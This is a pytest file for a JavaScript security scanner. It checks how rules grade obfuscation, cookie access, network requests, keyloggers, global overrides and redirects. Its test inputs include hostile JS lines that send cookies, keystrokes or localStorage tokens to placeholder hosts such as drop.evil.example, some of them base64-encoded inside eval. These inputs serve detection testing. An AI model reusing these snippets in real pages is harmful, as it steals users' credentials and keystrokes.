"""Behaviour of the JS analyzers beyond the per-rule samples."""

from __future__ import annotations

import base64
import random
import string

from scanner.findings import Category, Finding, Severity
from scanner.js.engine import analyze_source
from scanner.manifest import Capabilities, Origin
from scanner.stages.js_static import compiled_rules
from tests.paths import PROJECT_ROOT

RULES = compiled_rules(PROJECT_ROOT / "rules" / "js")


def _findings(source: str, caps: Capabilities | None = None) -> list[Finding]:
    return analyze_source("a.js", source.encode(), RULES, caps or Capabilities()).findings


def _cats(findings: list[Finding], minimum: Severity = Severity.LOW) -> set[Category]:
    return {f.category for f in findings if f.severity >= minimum}


def test_declared_capability_turns_the_finding_into_info() -> None:
    source = "var f = new Function('a', userCode);"
    assert max(f.severity for f in _findings(source)) is Severity.LOW
    declared = _findings(source, Capabilities(eval=True))
    assert [f.severity for f in declared] == [Severity.INFO]
    assert "declares eval" in declared[0].message


def test_eval_of_an_encoded_payload_is_analysed_in_turn() -> None:
    payload = "fetch('https://drop.evil.example/c?d=' + document.cookie)"
    source = f"eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
    findings = _findings(source, Capabilities(eval=True))
    by_rule = {f.rule_id: f for f in findings}
    assert (
        by_rule["js-eval"].severity is Severity.CRITICAL
    )  # declared eval does not excuse hidden code
    assert by_rule["js-encoded-payload"].category is Category.OBFUSCATION
    assert by_rule["js-network-request"].category is Category.EXFILTRATION
    assert "drop.evil.example" in by_rule["js-network-request"].message
    assert by_rule["js-cookie-access"].message.startswith("in code decoded at line 1")


def test_global_object_idiom_is_not_dynamic_code() -> None:
    assert _findings("var g = Function('return this')();") == []


def test_request_to_a_declared_origin_is_quiet() -> None:
    caps = Capabilities(network=(Origin("https", "api.acme.example", None),))
    source = (
        "fetch('https://api.acme.example/v1/save', {method: 'POST', body: JSON.stringify(state)});"
    )
    assert _findings(source, caps) == []


def test_request_built_from_char_codes_is_resolved() -> None:
    codes = ", ".join(str(ord(c)) for c in "https://evil.example/")
    source = f"var u = String.fromCharCode({codes}); navigator.sendBeacon(u + 'x', data);"
    findings = _findings(source)
    beacon = next(f for f in findings if f.rule_id == "js-network-request")
    assert beacon.category is Category.EXFILTRATION and "evil.example" in beacon.message


def test_constant_request_to_undeclared_origin_is_undeclared_not_exfiltration() -> None:
    findings = _findings("fetch('https://cdn.other.example/config.json');")
    assert _cats(findings) == {Category.UNDECLARED_CAPABILITY}


def test_sensitive_data_in_an_undeclared_request_is_critical() -> None:
    findings = _findings(
        "fetch('https://x.evil.example/', {method: 'POST', body: localStorage.getItem('t')});"
    )
    assert any(
        f.category is Category.EXFILTRATION and f.severity is Severity.CRITICAL for f in findings
    )


def test_computed_url_without_declared_network_is_undeclared() -> None:
    findings = _findings("fetch(endpoint + '/items');")
    assert _cats(findings) == {Category.UNDECLARED_CAPABILITY}
    caps = Capabilities(network=(Origin("https", "api.acme.example", None),))
    assert _findings("fetch(endpoint + '/items');", caps) == []


def test_guarded_polyfill_is_not_an_override() -> None:
    findings = _findings("if (typeof window.fetch !== 'function') { window.fetch = poly; }")
    assert all(f.severity is Severity.INFO for f in findings)
    assert _cats(_findings("XMLHttpRequest.prototype.send = spy;")) == {Category.DOM_ESCAPE}


def test_cookie_write_is_weaker_than_a_read() -> None:
    write = _findings("document.cookie = 'theme=dark';")
    assert [(f.category, f.severity) for f in write] == [
        (Category.UNDECLARED_CAPABILITY, Severity.MEDIUM)
    ]


def test_stashed_base64_javascript_is_found_without_an_eval() -> None:
    code = (
        "document.addEventListener('keydown', function (e) {"
        " fetch('https://k.evil.example/?k=' + e.key); });" * 5
    )
    source = f"var blob = '{base64.b64encode(code.encode()).decode()}';"
    cats = _cats(_findings(source))
    # The payload is a keylogger: page-wide key listener whose keys go to a request.
    assert {Category.OBFUSCATION, Category.CREDENTIAL_ACCESS, Category.EXFILTRATION} <= cats


def test_page_listener_for_input_events_only() -> None:
    assert _cats(_findings("window.addEventListener('keypress', log);")) == {Category.DOM_ESCAPE}
    assert _findings("window.addEventListener('scroll', onScroll);") == []
    assert _cats(_findings("document.onkeydown = log;")) == {Category.DOM_ESCAPE}


def test_findings_name_the_capability_they_exercise() -> None:
    findings = _findings("var c = document.cookie; fetch('https://x.evil.example/?' + c);")
    caps = {f.rule_id: dict(f.details).get("capability") for f in findings}
    assert caps["js-cookie-access"] == "cookies"
    assert caps["js-network-request"] == "network"


def _rule(findings: list[Finding], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def test_a_bundles_own_class_named_like_a_global_is_not_the_global() -> None:
    """echarts defines its own Storage and Element: patching those touches nothing of the page."""
    source = """
    (function () {
      function Storage(root) { this.root = root; }
      Storage.prototype.add = function (el) { this.root.push(el); };
      var Element = function () {};
      Element.prototype.attr = function (k, v) { this[k] = v; };
      class Node { }
      Node.prototype.walk = function () {};
    })();
    """
    assert _rule(_findings(source), "js-global-override") == []


def test_an_alias_of_the_global_is_still_the_global() -> None:
    source = """
    (function () {
      var Storage = window.Storage;
      Storage.prototype.setItem = function (k, v) { new Image().src = '//x.example/?' + k + v; };
    })();
    """
    hits = _rule(_findings(source), "js-global-override")
    assert [f.severity for f in hits] == [Severity.HIGH]


def test_a_local_class_elsewhere_does_not_hide_a_global_patch() -> None:
    source = """
    (function () { function Storage() {} Storage.prototype.a = 1; })();
    Storage.prototype.setItem = function (k, v) { fetch('https://x.example/', {body: v}); };
    """
    hits = _rule(_findings(source), "js-global-override")
    assert [f.severity for f in hits] == [Severity.HIGH]


def test_forwarding_wrapper_is_low_and_sending_wrapper_is_high() -> None:
    forwarding = """
    var send = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (b) { zone.track(this); return send.call(this, b); };
    """
    sending = """
    var send = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (b) {
      navigator.sendBeacon('https://collect.example/', b); return send.call(this, b);
    };
    """
    assert [f.severity for f in _rule(_findings(forwarding), "js-global-override")] == [
        Severity.LOW
    ]
    assert [f.severity for f in _rule(_findings(sending), "js-global-override")] == [Severity.HIGH]


def test_cookie_severity_follows_where_the_value_goes() -> None:
    helper = """
    function xsrf(name) {
      var m = document.cookie.match(new RegExp('(^|;\\\\s*)(' + name + ')=([^;]*)'));
      return m ? decodeURIComponent(m[3]) : null;
    }
    """
    whole = "var jar = document.cookie; render(jar);"
    direct = "new Image().src = 'https://c.example/p?c=' + encodeURIComponent(document.cookie);"
    bound = """
    function grab() {
      var all = document.cookie;
      fetch('https://c.example/in', { method: 'POST', body: all });
    }
    """
    encoded = "var packed = btoa(document.cookie);"

    def severity(source: str) -> list[Severity]:
        return [f.severity for f in _rule(_findings(source), "js-cookie-access")]

    assert severity(helper) == [Severity.LOW]
    assert severity(whole) == [Severity.MEDIUM]
    for theft in (direct, bound, encoded):
        found = _rule(_findings(theft), "js-cookie-access")
        assert [(f.severity, f.category) for f in found] == [
            (Severity.CRITICAL, Category.EXFILTRATION)
        ], theft


def test_declared_cookies_do_not_excuse_sending_them_away() -> None:
    direct = "navigator.sendBeacon('https://c.example/', document.cookie);"
    found = _rule(_findings(direct, Capabilities(cookies=True)), "js-cookie-access")
    assert [f.severity for f in found] == [Severity.CRITICAL]


def test_redirects_by_intent_not_by_the_link() -> None:
    link = "button.onclick = function () { window.open('https://docs.example.org/help'); };"
    cloaked = """
    if (/Android|iPhone/.test(navigator.userAgent) && document.referrer.indexOf('google') > -1) {
      window.location.href = 'https://promo.example.net/land';
    }
    """
    carrying = "location.href = 'https://t.example.net/r?from=' + document.domain;"
    assert [f.severity for f in _rule(_findings(link), "js-navigation")] == [Severity.LOW]
    found = _rule(_findings(cloaked), "js-navigation")
    assert [(f.severity, f.category) for f in found] == [(Severity.HIGH, Category.MALWARE)]
    assert [f.severity for f in _rule(_findings(carrying), "js-navigation")] == [Severity.HIGH]


def test_capability_evidence_without_data_flow_is_low() -> None:
    """Code a library contains but a plugin may never run is a reason to look, not to judge."""
    source = """
    function load(u) { return fetch(u).then(function (r) { return r.json(); }); }
    function toast(m) { var d = document.createElement('div'); d.textContent = m;
      document.body.appendChild(d); }
    function compile(t) { return new Function('data', t); }
    """
    found = [f for f in _findings(source) if f.severity > Severity.INFO]
    assert found and all(f.severity is Severity.LOW for f in found)


def test_an_xsrf_token_for_a_request_header_is_not_theft() -> None:
    """rxjs/axios: one named cookie into a header of the library's own request."""
    source = """
    function send(cfg) {
      var headers = {}, token = null;
      if (cfg.xsrfCookieName) {
        var name = cfg.xsrfCookieName;
        token = document.cookie.match(new RegExp('(^|;\\\\s*)(' + name + ')=([^;]*)'));
      }
      if (token) headers[cfg.xsrfHeaderName] = token.pop();
      var xhr = new XMLHttpRequest();
      xhr.open(cfg.method, cfg.url);
      xhr.send(cfg.body);
    }
    """
    assert [f.severity for f in _rule(_findings(source), "js-cookie-access")] == [Severity.LOW]
    stolen = "fetch('https://c.example/?s=' + document.cookie.match(/sid=([^;]+)/)[1]);"
    assert [f.severity for f in _rule(_findings(stolen), "js-cookie-access")] == [Severity.CRITICAL]


def test_a_page_listener_that_sends_keys_is_a_keylogger() -> None:
    shortcut = (
        "document.addEventListener('keydown', function (e) { if (e.key === 'Escape') close(); });"
    )
    logger = """
    var buf = '';
    document.addEventListener('keydown', function (e) {
      buf += e.key;
      if (buf.length > 20) {
        new Image().src = 'https://k.example/l?d=' + encodeURIComponent(buf);
        buf = '';
      }
    });
    """
    assert [f.severity for f in _rule(_findings(shortcut), "js-page-listener")] == [Severity.LOW]
    found = _rule(_findings(logger), "js-page-listener")
    assert [(f.severity, f.category) for f in found] == [
        (Severity.CRITICAL, Category.CREDENTIAL_ACCESS)
    ]


def test_any_property_name_cut_mid_word_into_literals_is_hidden() -> None:
    """Landing pages cut even harmless names (parseInt, Math.floor) to defeat search."""
    cut = "var n = window['parse' + 'Int'], f = window['M' + 'a' + 'th']['fl' + /* x */ 'oor'];"
    found = _rule(_findings(cut), "js-hidden-name")
    assert {f.message.split("'")[1] for f in found} == {"parseInt", "Math", "floor"}
    readable = "a = el['data-' + 'id']; b = s['-webkit-' + 'transform']; c = o['on' + type];"
    assert _rule(_findings(readable), "js-hidden-name") == []


def _opaque_blob(n: int = 700) -> str:
    symbols = string.ascii_letters + string.digits + "(){}[];.,'`~%&|=+-<>!?:"
    pick = random.Random(3).choice
    return "".join(pick(symbols) for _ in range(n))


def _planted(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.rule_id == "js-planted-data"]


def test_a_file_that_only_leaves_unread_constants_in_the_page_is_a_carrier() -> None:
    keys = "".join(f"var k{i}x = {100_000 + i * 7_919};\n" for i in range(5))
    export = "var P = {mount: function (el) { el.textContent = 'ok'; }};\n"
    found = _planted(_findings(keys + export))
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert "5 constants" in found[0].message
    # The same constants read by the plugin's own code are configuration, not a carrier.
    reads = "var P = {mount: function (el) { el.textContent = k0x + k1x + k2x + k3x + k4x; }};"
    assert _planted(_findings(keys + reads)) == []
    # A file that does work of its own besides is judged by that work.
    work = export + "P.mount(document.body);\nconsole.log('mounted');\n"
    assert _planted(_findings(keys + work)) == []
    # In a module, top-level names are the module's own, not the page's.
    assert _planted(_findings(keys + "export default 1;\n")) == []


def test_an_opaque_string_nobody_reads_is_a_payload_for_another_script() -> None:
    blob = _opaque_blob()
    code = "var P = {mount: function (el) { el.textContent = 'ok'; }};\nP.mount(document.body);\n"
    for planted in (f'var s9 = "{blob}";\n', f'window.s9 = "{blob}";\n'):
        found = _planted(_findings(planted + code))
        assert [f.severity for f in found] == [Severity.HIGH], planted[:12]
        assert found[0].category is Category.OBFUSCATION
        assert "'s9'" in found[0].message
    # Read by the bundle itself: whatever it is, the code that uses it is what is judged.
    read = f'var s9 = "{blob}";\nvar P = {{mount: function (el) {{ el.title = s9; }}}};\n'
    assert _planted(_findings(read)) == []


def test_unread_blobs_that_are_media_or_prose_are_not_payloads() -> None:
    image = base64.b64encode(bytes(range(256)) * 4).decode()
    prose = " ".join(["the quick brown fox jumps over the lazy dog"] * 30)
    code = "console.log('ready');\nconsole.log('done');\n"
    for value in (image, prose):
        assert _planted(_findings(f'var unused = "{value}";\n' + code)) == []


def test_calling_its_own_function_through_a_built_global_name_is_hidden() -> None:
    runner = "function qXy(s) { document.title = s; }\n"
    for call in (
        "window[['q', 'Xy'].join('')]('hello');",
        "var k = ['q X y', 'other']; this[k[0].replace(/\\s/g, '')]('hello');",
    ):
        found = [f for f in _findings(runner + call) if f.rule_id == "js-hidden-name"]
        assert [f.severity for f in found] == [Severity.HIGH], call
        assert "own function 'qXy'" in found[0].message
    # A method's own this, or a name the file does not declare, is ordinary dispatch.
    handler = "function on_ready() {}\n"
    top = handler + "this[['on_', 'ready'].join('')]();"
    assert [f.rule_id for f in _findings(top)] == ["js-hidden-name"]
    method = handler + "var o = {run: function () { this[['on_', 'ready'].join('')](); }};"
    assert not [f for f in _findings(method) if f.rule_id == "js-hidden-name"]
    other = "window[['call_', 'back'].join('')]('x');"
    assert not [f for f in _findings(other) if f.rule_id == "js-hidden-name"]
    # A namespace prefix joined to a word is how old code finds its global callbacks.
    prefixed = "var NS = 'acme'; function acmeInit() {}\nwindow[NS + 'Init']();"
    assert not [f for f in _findings(prefixed) if f.severity >= Severity.MEDIUM]


def test_hostile_shapes_neither_crash_nor_hang_the_new_folding() -> None:
    """Nesting past the limits, lone surrogates and huge numbers are refused, not raised."""
    for source in (
        "var x = " + "!" * 3000 + "1;",
        "var x = " + "[" * 2000 + "1" + "]" * 2000 + ";",
        "var s = '\\ud800'; s = s + 'a'; window[s + 'b']();",
        "o['a' + 0x" + "f" * 4000 + "];",
        "x = 'a'; x = 'b';\n" + "[" * 200 + "o[x + '']" + "]" * 200 + ";",
    ):
        _findings(source)  # no exception


def test_windows_scripting_runtime_objects_mark_a_dropper_old_ajax_does_not() -> None:
    for progid in ("Scripting.Dictionary", "Scri' + 'pting.FileSystemObject"):
        found = _findings(f"var d = new ActiveXObject('{progid}'); d.add('a', 't');")
        assert [(f.severity, f.category) for f in found if f.rule_id == "js-windows-script"] == [
            (Severity.CRITICAL, Category.MALWARE)
        ], progid
    for legacy in ("Msxml2.XMLHTTP", "htmlfile"):
        found = _findings(f"var x = new ActiveXObject('{legacy}');")
        assert not [f for f in found if f.severity >= Severity.MEDIUM], legacy
